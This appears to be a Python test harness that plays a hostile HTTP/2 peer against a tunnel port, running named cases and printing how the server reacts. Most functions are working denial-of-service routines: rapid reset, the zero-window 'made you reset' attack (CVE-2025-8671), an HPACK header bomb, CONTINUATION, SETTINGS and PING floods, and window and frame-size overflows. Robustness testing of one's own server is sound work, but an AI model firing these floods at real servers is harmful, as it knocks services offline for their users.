"""A peer of the tunnel port that breaks rules. `hostile_peers.py ADDRESS ROOT [CERTIFICATE KEY] CASE...`
prints `case <tab> what came of it` for each case, over a connection of its own.
"""

import socket
import ssl
import struct
import sys

ADDRESS, ROOT, CERTIFICATE, KEY = sys.argv[1:5]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_HEADERS = 4
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR"}
CODES |= {2: "INTERNAL_ERROR", 5: "STREAM_CLOSED", 7: "REFUSED_STREAM", 8: "CANCEL"}
CODES |= {9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b"", length=None):
    length = len(payload) if length is None else length
    return length.to_bytes(3, "big") + struct.pack("!BBI", kind, flags, stream) + payload


def literal(index, value):
    """A field without indexing and without Huffman (RFC 7541, section 6.2.2); short values."""
    return bytes([index, len(value)]) + value


def connect(stream, authority, flags=END_HEADERS):
    block = literal(2, b"CONNECT") + literal(1, authority.encode())
    return frame(HEADERS, flags, stream, block)


OWN = (f"[{ADDRESS}]" if ":" in ADDRESS else ADDRESS) + ":8080"


def tls():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(ROOT)
    context.set_alpn_protocols(["h2"])
    if CERTIFICATE != "none":
        context.load_cert_chain(CERTIFICATE, KEY)
    return context.wrap_socket(socket.create_connection((ADDRESS, 15008), 60))


def begin():
    s = tls()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def exactly(s, length):
    got = b""
    while len(got) < length:
        part = s.recv(length - len(got))
        if not part:
            raise EOFError
        got += part
    return got


def frames(s):
    while True:
        head = exactly(s, 9)
        kind, flags, stream = struct.unpack("!BBI", head[3:])
        yield kind, flags, stream, exactly(s, int.from_bytes(head[:3], "big"))


def ending(s):
    """How the connection ends; if it does not, how the last stream did."""
    last = "nothing"
    try:
        for kind, _, stream, payload in frames(s):
            if kind == GOAWAY:
                return CODES.get(*struct.unpack("!4xI", payload[:8]) * 2)
            if kind == RST:
                last = "stream " + CODES.get(*struct.unpack("!I", payload) * 2)
                # Nothing more within this time: the connection goes on.
                s.settimeout(3)
    except TimeoutError:
        return last
    except (EOFError, ConnectionError, ssl.SSLError):
        return "closed"


def status(s, number):
    for kind, _, stream, payload in frames(s):
        if kind == HEADERS and stream == number:
            # A change of the dynamic table's size may come first (RFC 7541, section 6.3).
            block = payload.lstrip(b"\x20")
            return {0x88: 200, 0x8C: 400}.get(block[0]) or block[-3:].decode()
        if kind == RST and stream == number:
            return "reset"


def flood(s, pieces):
    """Sends without reading, until all is sent or the other side has had enough."""
    s.settimeout(20)
    try:
        for piece in pieces:
            s.sendall(piece)
    except (TimeoutError, ConnectionError, ssl.SSLError):
        pass
    s.settimeout(60)
    return ending(s)


def shake():
    try:
        s = begin()
        return "taken" if next(frames(s))[0] == SETTINGS else "odd"
    except (ssl.SSLError, ConnectionError, EOFError):
        return "refused"


def asks(authority):
    s = begin()
    s.sendall(connect(1, authority))
    return str(status(s, 1))


def alive(s):
    """Whether streams are still served."""
    s.sendall(connect(99_999, OWN))
    return str(status(s, 99_999))


def header_bomb(s):
    # One entry of 4 KB in the dynamic table, named thousands of times in one block.
    value = b"x" * 3900
    rest = len(value) - 127
    entry = b"\x40\x01a" + bytes([127, rest & 127 | 128, rest >> 7]) + value
    block = literal(2, b"CONNECT") + literal(1, OWN.encode()) + entry + b"\xbe" * 8000
    return flood(s, (frame(HEADERS, END_HEADERS, n, block) for n in range(1, 200, 2)))


def rapid_reset(s):
    reset = struct.pack("!I", 8)
    return flood(s, (connect(n, OWN) + frame(RST, 0, n, reset) for n in range(1, 60_000, 2)))


def made_you_reset(s):
    # A window update of zero is a stream error, so the server resets (CVE-2025-8671).
    return flood(s, (connect(n, OWN) + frame(WINDOW, 0, n, bytes(4)) for n in range(1, 60_000, 2)))


def continuation(s):
    field = b"\0\x01a" + literal(100, b"")[:1] + b"x" * 100
    return flood(s, [connect(1, OWN, 0)] + [frame(CONTINUATION, 0, 1, field)] * 20_000)


def empty_continuation(s):
    return flood(s, [connect(1, OWN, 0)] + [frame(CONTINUATION, 0, 1)] * 20_000)


def settings(s):
    return flood(s, [frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * 100] * 200)


def ping(s):
    return flood(s, [frame(PING, 0, 0, bytes(8)) * 100] * 200)


def empty_data(s):
    return flood(s, [connect(1, OWN)] + [frame(DATA, 0, 1) * 100] * 200)


def windows(s):
    # Legal, if useless: each costs the server nothing that lasts.
    s.sendall(frame(WINDOW, 0, 0, struct.pack("!I", 1)) * 100_000)
    return alive(s)


def window_overflow(s):
    return flood(s, [frame(WINDOW, 0, 0, struct.pack("!I", 0x7FFFFFFF))])


def stream_window_overflow(s):
    return flood(s, [connect(1, OWN), frame(WINDOW, 0, 1, struct.pack("!I", 0x7FFFFFFF))])


def huge_frame(s):
    return flood(s, [connect(1, OWN), frame(DATA, 0, 1, length=0xFFFFFF)])


def data_beyond_window(s):
    return flood(s, [connect(1, OWN)] + [frame(DATA, 0, 1, bytes(16384))] * 4096)


def not_http2(_):
    s = tls()
    s.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n")
    return ending(s)


def silent(_):
    return ending(tls())


def many_streams(s):
    return flood(s, (connect(n, OWN) for n in range(1, 40_000, 2)))


if __name__ == "__main__":
    for case in sys.argv[5:]:
        word, _, argument = case.partition("=")
        if word == "shake":
            print(case, shake(), sep="\t", flush=True)
        elif word == "asks":
            print(case, asks(argument), sep="\t", flush=True)
        else:
            print(case, globals()[word](begin()), sep="\t", flush=True)
